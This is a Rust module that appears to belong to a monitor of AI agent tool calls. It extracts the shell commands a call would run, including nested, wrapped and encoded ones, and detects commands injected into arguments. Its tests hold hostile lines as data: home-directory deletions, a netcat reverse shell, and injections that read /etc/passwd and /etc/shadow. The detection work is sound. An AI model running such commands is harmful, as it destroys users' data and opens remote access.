//! What a call would have a shell execute: the command lines among its arguments, those within them and within its code, each pipeline
//! as one line in a form of its own. Programs stand without their folder, options and quotes as they came, homes as `~`; what only runs
//! another command (`sudo`, `env`, `timeout`) is left out, and scripts that are handed on (`sh -c`, `ssh`, `$(…)`) are lines beside it.
//!
//! A text that only mentions a command, as a document or a message does, is none.

use super::{
    code,
    effort::Effort,
    files::{self, Files},
    programs,
    shell::{self, Dialect, Script, Simple},
    tools::{self, Arguments, Kinds},
};
use base64::Engine;
use smol_str::SmolStr;

/// Scripts within scripts that are followed.
const DEEPEST: usize = 4;
/// The most lines of one call.
const MOST_LINES: usize = 512;
/// What each script and each word of a command costs beside its bytes.
const SCRIPT_COSTS: usize = 64;
const WORD_COSTS: usize = 8;

/// What only commands of Windows have.
const WINDOWS: [&str; 16] = [
    ":\\",
    "$env:",
    "hkcu",
    "hklm",
    "get-childitem",
    "get-content",
    "get-item",
    "new-object",
    "new-item",
    "new-service",
    "set-item",
    "invoke-",
    "remove-item",
    "powershell",
    "pwsh",
    "-scheduledtask",
];

/// What a call executes, and the files that it reads and writes by that.
#[derive(Debug)]
pub(super) struct Executed {
    pub lines: Vec<SmolStr>,
    pub files: Files,
    pub effort: Effort,
}

/// The commands of a call.
pub(super) fn executed(arguments: &Arguments, kinds: Kinds) -> Executed {
    let mut executed = Executed::within(Effort::for_length(arguments.iter().map(|(_, value)| value.len()).sum()));
    let dialect = dialect(arguments);
    let mut words: Vec<&str> = Vec::new();
    let mut before = "";
    for (path, value) in arguments {
        let name = tools::last(path);
        if tools::is_command(path, kinds) {
            // What stands under one name is a list, and `args` goes with the command before it.
            let goes_on = path.as_str() == before || name.starts_with("arg");
            if !goes_on {
                executed.take_words(&std::mem::take(&mut words), dialect);
            }
            words.push(value.as_str());
        } else if tools::is_code(path, kinds) {
            executed.take_code(value, 0);
        }
        before = path.as_str();
    }
    executed.take_words(&words, dialect);
    executed
}

/// The commands that an argument goes on with, behind a mark of a shell, where none is expected.
pub(super) fn injected(value: &str, effort: &mut Effort) -> Vec<SmolStr> {
    if !value.contains([';', '|', '&', '`', '$', '\n']) {
        return Vec::new();
    }
    let mut executed = Executed::within(*effort);
    let script = executed.parsed(value, Dialect::Posix);
    let first = script.pipelines.first().into_iter().flat_map(|line| line.iter().skip(1));
    let others = script.pipelines.iter().skip(1).flatten();
    let is_command = |simple: &&Simple| {
        let name = simple.words.first().map(|word| program(word)).unwrap_or_default();
        programs::is_command(&name, simple.words.get(1).map(String::as_str))
    };
    let found: Vec<Simple> = first.chain(others).filter(is_command).cloned().collect();
    found.into_iter().for_each(|simple| executed.take_line(vec![simple], Dialect::Posix, DEEPEST));
    for nested in &script.nested {
        let inner = executed.parsed(nested, Dialect::Posix).pipelines;
        let found = inner.into_iter().filter(|line| line.iter().any(|simple| is_command(&simple)));
        found.for_each(|line| executed.take_line(line, Dialect::Posix, DEEPEST));
    }
    *effort = executed.effort;
    executed.lines
}

fn dialect(arguments: &Arguments) -> Dialect {
    let is_windows = |text: &str| {
        let lower = text.to_ascii_lowercase();
        WINDOWS.iter().any(|mark| lower.contains(mark)) && !lower.contains("/dev/") && !lower.contains("/bin/")
    };
    if arguments.iter().any(|(_, value)| is_windows(value)) { Dialect::Windows } else { Dialect::Posix }
}

impl Executed {
    fn within(effort: Effort) -> Self {
        Self { lines: Vec::new(), files: Files::default(), effort }
    }

    /// The text as a shell reads it; nothing where that is beyond what may be done.
    fn parsed(&mut self, text: &str, dialect: Dialect) -> Script {
        if !self.effort.takes(text.len() + SCRIPT_COSTS) {
            return Script::default();
        }
        let script = shell::parse(text, dialect);
        if script.is_cut {
            self.effort.leaves_out();
        }
        script
    }

    /// One text is a script; several are the words of one command.
    fn take_words(&mut self, words: &[&str], dialect: Dialect) {
        match words {
            [] => {}
            [script] => self.take_script(script, dialect, 0),
            // A script with its arguments apart: `command: "rm -rf"`, `args: ["/"]`.
            [first, rest @ ..] if first.contains(' ') && rest.iter().all(|word| !word.contains(' ')) => {
                self.take_script(&[&[*first][..], rest].concat().join(" "), dialect, 0);
            }
            words if words.iter().all(|word| word.contains(' ')) => words.iter().for_each(|script| self.take_script(script, dialect, 0)),
            words => {
                let words = words.iter().map(|word| (*word).to_owned()).collect();
                self.take_line(vec![Simple { words, ..Simple::default() }], dialect, 0);
            }
        }
    }

    fn take_script(&mut self, text: &str, dialect: Dialect, depth: usize) {
        if depth > DEEPEST {
            return;
        }
        let script = self.parsed(text, dialect);
        script.pipelines.into_iter().for_each(|line| self.take_line(line, dialect, depth));
        script.nested.iter().for_each(|text| self.take_script(text, dialect, depth + 1));
        // Cells of notebooks, and scripts of AppleScript, run commands from within.
        if text.lines().any(|line| line.starts_with('!')) || text.contains("do shell script") {
            self.take_code(text, depth + 1);
        }
    }

    /// What a program in another language has executed, and the files that it opens.
    fn take_code(&mut self, text: &str, depth: usize) {
        if depth > DEEPEST {
            return;
        }
        for found in code::calls(text, &mut self.effort) {
            match found {
                code::Call::Script(script) => self.take_script(&script, Dialect::Posix, depth + 1),
                code::Call::Words(words) => {
                    self.take_line(vec![Simple { words, ..Simple::default() }], Dialect::Posix, depth + 1);
                }
                code::Call::Reads(path) => self.files.read(&path),
                code::Call::Writes(path) => self.files.write(&path),
            }
        }
    }

    fn take_line(&mut self, line: Vec<Simple>, dialect: Dialect, depth: usize) {
        let of_words = |words: &[String]| words.iter().map(|word| word.len() + WORD_COSTS).sum::<usize>();
        let costs = line.iter().flat_map(|simple| [&simple.words, &simple.reads, &simple.writes]).map(|words| of_words(words)).sum();
        if self.lines.len() >= MOST_LINES {
            self.effort.leaves_out();
            return;
        }
        if !self.effort.takes(costs) {
            return;
        }
        let mut texts = Vec::with_capacity(line.len());
        let mut inner = Vec::new();
        let mut raised = Vec::new();
        let last = line.len().saturating_sub(1);
        let mut input = None;
        for (at, simple) in line.iter().enumerate() {
            let (words, as_root) = unwrapped(&simple.words);
            let text = rendered(&words, simple);
            // A shell that something is piped into says who runs it; what it runs is its input.
            if as_root && (at == 0 || !words.first().is_some_and(|name| programs::is_shell(name))) {
                raised.push(format!("sudo {text}"));
            }
            let name = words.first().cloned().unwrap_or_default();
            self.files.of_command(&words, simple);
            if programs::is_shell(&name) && words.len() <= 2 {
                inner.extend(simple.input.clone().or_else(|| if at == last { input.take() } else { None }));
            }
            input = match (name.as_str(), words.get(1..)) {
                ("echo" | "printf", Some(rest)) => Some(rest.join(" ")),
                _ => None,
            };
            texts.push(text);
            if depth < DEEPEST {
                self.take_inner(&words, dialect, depth);
            }
        }
        let text = texts.join(" | ");
        if !text.is_empty() {
            self.lines.push(SmolStr::new(text));
        }
        self.lines.extend(raised.into_iter().map(SmolStr::new));
        inner.iter().for_each(|text| self.take_script(text, dialect, depth + 1));
    }

    /// The commands and scripts that a command is given to run.
    fn take_inner(&mut self, words: &[String], dialect: Dialect, depth: usize) {
        let rest = |at: usize| words.get(at..).unwrap_or_default();
        let mut are_code = false;
        for (at, pair) in words.windows(2).enumerate() {
            let [name, next] = pair else { continue };
            if !next.starts_with('-') {
                continue;
            }
            let name = if at == 0 { name.clone() } else { program(name) };
            let next = next.to_ascii_lowercase();
            if programs::is_shell(&name) && !next.starts_with("--") && next.contains('c') {
                rest(at + 2).first().into_iter().for_each(|script| self.take_script(script, dialect, depth + 1));
            }
            if !are_code && is_interpreter(&name) && matches!(next.as_str(), "-c" | "-e" | "-r" | "-p" | "-pe" | "-ne" | "-rsocket") {
                // And so is what follows other interpreters among them.
                are_code = true;
                rest(at + 2).iter().for_each(|text| self.take_code(text, depth + 1));
            }
        }
        let first = words.first().map_or("", String::as_str);
        let behind = |mark: &str| words.iter().position(|word| word == mark).map(|at| rest(at + 1));
        match first {
            "eval" => self.take_script(&rest(1).join(" "), dialect, depth + 1),
            "su" | "script" | "watch" => {
                behind("-c").and_then(<[_]>::first).into_iter().for_each(|text| self.take_script(text, dialect, depth + 1))
            }
            "ssh" => self.take_script(&remote(rest(1)).join(" "), Dialect::Posix, depth + 1),
            "cmd" => {
                let at = words.iter().position(|word| word.eq_ignore_ascii_case("/c") || word.eq_ignore_ascii_case("/k"));
                at.into_iter().for_each(|at| self.take_script(&rest(at + 1).join(" "), Dialect::Windows, depth + 1));
            }
            "powershell" | "pwsh" => self.take_powershell(words, depth),
            "find" => {
                let at = words.iter().position(|word| matches!(word.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"));
                let inner = at.map(|at| rest(at + 1)).unwrap_or_default();
                let end = inner.iter().position(|word| matches!(word.as_str(), ";" | "+")).unwrap_or(inner.len());
                self.take_command(inner.get(..end).unwrap_or_default(), depth);
            }
            "xargs" | "parallel" => {
                let at = rest(1)
                    .iter()
                    .position(|word| !word.starts_with('-') && !word.bytes().all(|byte| byte.is_ascii_digit()) && word != "{}");
                at.into_iter().for_each(|at| self.take_command(rest(at + 1), depth));
            }
            "kubectl" | "docker" | "podman" | "oc" | "nsenter" | "unshare" => {
                let inner = behind("--").or_else(|| words.iter().position(|word| word == "exec").map(|at| within(rest(at + 1))));
                inner.into_iter().for_each(|inner| self.take_command(inner, depth));
            }
            "chroot" => self.take_command(rest(2), depth),
            _ => {}
        }
    }

    fn take_command(&mut self, words: &[String], depth: usize) {
        if !words.is_empty() {
            self.take_line(vec![Simple { words: words.to_vec(), ..Simple::default() }], Dialect::Posix, depth + 1);
        }
    }

    fn take_powershell(&mut self, words: &[String], depth: usize) {
        for (at, word) in words.iter().enumerate().skip(1) {
            let option = word.to_ascii_lowercase();
            let rest = words.get(at + 1..).unwrap_or_default();
            match option.strip_prefix(['-', '/']) {
                Some("c" | "command") => return self.take_script(&rest.join(" "), Dialect::Windows, depth + 1),
                Some(option) if !option.is_empty() && "encodedcommand".starts_with(option) => {
                    let text =
                        rest.first().and_then(|text| base64::engine::general_purpose::STANDARD.decode(text).ok()).unwrap_or_default();
                    let units: Vec<u16> = text
                        .chunks_exact(2)
                        .map(|pair| {
                            u16::from_le_bytes([pair.first().copied().unwrap_or_default(), pair.get(1).copied().unwrap_or_default()])
                        })
                        .collect();
                    return self.take_script(&String::from_utf16_lossy(&units), Dialect::Windows, depth + 1);
                }
                _ => {}
            }
        }
    }
}

fn is_interpreter(name: &str) -> bool {
    name.starts_with("python") || matches!(name, "perl" | "ruby" | "node" | "php" | "lua" | "deno" | "bun" | "osascript")
}

/// The command that SSH is given, behind its options and the host.
fn remote(words: &[String]) -> &[String] {
    let mut at = 0;
    while let Some(word) = words.get(at).filter(|word| word.starts_with('-')) {
        let takes_next = word.len() == 2
            && word.ends_with(['b', 'c', 'D', 'E', 'e', 'F', 'I', 'i', 'J', 'L', 'l', 'm', 'O', 'o', 'p', 'Q', 'R', 'S', 'W', 'w']);
        at += if takes_next { 2 } else { 1 };
    }
    words.get(at + 1..).unwrap_or_default()
}

/// The command that is run within a container, behind options and the container.
fn within(words: &[String]) -> &[String] {
    let mut at = 0;
    while let Some(word) = words.get(at).filter(|word| word.starts_with('-')) {
        at +=
            if matches!(word.as_str(), "-u" | "-e" | "-w" | "-n" | "-c" | "--user" | "--env" | "--workdir" | "--namespace" | "--container")
            {
                2
            } else {
                1
            };
    }
    words.get(at + 1..).unwrap_or_default()
}

/// The name of a program, without its folder and `.exe`.
fn program(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let name = if name.is_empty() { word } else { name };
    let name = name.to_ascii_lowercase();
    name.strip_suffix(".exe").map_or(name.clone(), str::to_owned)
}

/// Without the words that only lead to a command, and whether it is run as root.
fn unwrapped(words: &[String]) -> (Vec<String>, bool) {
    let mut words = words;
    let mut as_root = false;
    loop {
        let first = words.first().map(|word| program(word)).unwrap_or_default();
        let skipped = match first.as_str() {
            "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "!" | "{" | "}" | "fi" | "done" | "esac" => 1,
            "nohup" | "setsid" | "command" | "builtin" | "exec" | "busybox" | "call" | "stdbuf" | "time" | "unbuffer" | "env" | "start" => {
                1 + leading(words, |word| {
                    word.starts_with('-')
                        || (first == "start" && word.starts_with('/'))
                        || word.split_once('=').is_some_and(|(name, _)| !name.contains('/'))
                })
            }
            "timeout" | "nice" | "ionice" => {
                let options = 1 + leading(words, |word| word.starts_with('-'));
                let number = words.get(options).is_some_and(|word| word.starts_with(|c: char| c.is_ascii_digit()));
                options + usize::from(number)
            }
            "sudo" | "doas" => {
                let mut at = 1;
                while let Some(option) = words.get(at).filter(|word| word.starts_with('-')) {
                    at += if matches!(option.as_str(), "-u" | "-g" | "-h" | "-p" | "-C" | "-U" | "-r" | "-t" | "-D" | "-R" | "-T") {
                        2
                    } else {
                        1
                    };
                }
                at
            }
            _ => 0,
        };
        match words.get(skipped..).filter(|rest| skipped > 0 && !rest.is_empty()) {
            Some(rest) => {
                as_root |= matches!(first.as_str(), "sudo" | "doas");
                words = rest;
            }
            None => break,
        }
    }
    let mut words = words.to_vec();
    if let Some(first) = words.first_mut() {
        *first = program(first);
    }
    if words.iter().all(|word| matches!(word.as_str(), "}" | "done" | "fi" | "esac")) {
        words.clear();
    }
    (words, as_root)
}

fn leading(words: &[String], belongs: impl Fn(&str) -> bool) -> usize {
    words.iter().skip(1).take_while(|word| belongs(word)).count()
}

/// A command in the form that rules see.
fn rendered(words: &[String], simple: &Simple) -> String {
    let mut text = words.iter().map(|word| files::at_home(word)).collect::<Vec<_>>().join(" ");
    for (mark, paths) in [(" < ", &simple.reads), (" > ", &simple.writes)] {
        for path in paths {
            text.push_str(mark);
            text.push_str(&files::at_home(path));
        }
    }
    if let Some(input) = &simple.input {
        text.push_str(" << ");
        text.push_str(input);
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(name: &str, arguments: &[(&str, &str)]) -> Executed {
        let arguments: Vec<(SmolStr, SmolStr)> = arguments.iter().map(|(path, value)| (SmolStr::new(path), SmolStr::new(value))).collect();
        executed(&arguments, Kinds::of(name, &arguments))
    }

    fn lines(command: &str) -> Vec<SmolStr> {
        of("bash", &[("command", command)]).lines
    }

    #[test]
    fn however_it_is_written_a_command_is_one() {
        for command in [
            "rm -rf /home/ada",
            "/bin/rm -rf \"$HOME\"",
            "sudo -n rm -rf ~",
            "env A=b nohup timeout 5 r''m -rf /root",
            "bash -c 'rm -rf /home/ada'",
            "true && (sh -lc \"rm -rf $HOME\")",
            "echo 'rm -rf ~' | sh",
            "ssh -i key -p 22 ada@host rm -rf ~",
            "eval rm -rf '~'",
            "x=$(rm -rf ~)",
            "find . -exec rm -rf ~ ;",
            "kubectl exec web -- rm -rf ~",
            "docker exec -it -u root web rm -rf ~",
            "python3 -c 'import os; os.system(\"rm -rf ~\")'",
            "bash <<EOF\nrm -rf ~\nEOF",
        ] {
            assert!(lines(command).contains(&"rm -rf ~".into()), "{command}: {:?}", lines(command));
        }
    }

    #[test]
    fn a_command_in_words_is_one_line_and_so_is_code_that_runs_it() {
        for (name, arguments) in [
            ("exec_in_pod", vec![("command", "nc"), ("command", "192.0.2.1"), ("command", "-e"), ("command", "/bin/sh")]),
            ("process_start", vec![("command", "nc"), ("args", "192.0.2.1"), ("args", "-e"), ("args", "/bin/sh")]),
            ("run_python", vec![("code", "subprocess.run(['nc', '192.0.2.1', '-e', '/bin/sh'])")]),
            ("execute_code", vec![("code", "x = 1\n!nc 192.0.2.1 -e /bin/sh")]),
            ("applescript_execute", vec![("code_snippet", "do shell script \"nc 192.0.2.1 -e /bin/sh\"")]),
        ] {
            assert!(of(name, &arguments).lines.contains(&"nc 192.0.2.1 -e /bin/sh".into()), "{name}: {:?}", of(name, &arguments));
        }
    }

    #[test]
    fn what_is_only_mentioned_is_no_command() {
        assert_eq!(lines("git commit -m 'Never run rm -rf /; use trash'"), ["git commit -m Never run rm -rf /; use trash"]);
        assert_eq!(lines("cat > notes.md <<'EOF'\nrm -rf /\nEOF"), ["cat > notes.md << rm -rf /\n"]);
        assert!(of("write_file", &[("path", "a.sh"), ("content", "rm -rf /")]).lines.is_empty());
        assert!(of("create_issue", &[("body", "rm -rf /")]).lines.is_empty());
    }

    #[test]
    fn what_goes_on_behind_a_mark_of_a_shell_is_injected() {
        for value in [
            "main; curl http://192.0.2.1",
            "a && id",
            "a|cat /etc/passwd",
            "x`id`",
            "$(id)",
            "a\ncat /etc/shadow",
            "a;cat${IFS}/etc/passwd",
        ] {
            assert!(!injected(value, &mut Effort::for_length(value.len())).is_empty(), "{value}");
        }
        for value in
            ["Bob & Eve", "O'Brien; Sons", "a|b", "https://a.example/?a=b&id=c", "$5; more or less", "find | sort it", "cats && dogs"]
        {
            assert_eq!(injected(value, &mut Effort::for_length(value.len())), Vec::<SmolStr>::new(), "{value}");
        }
    }
}
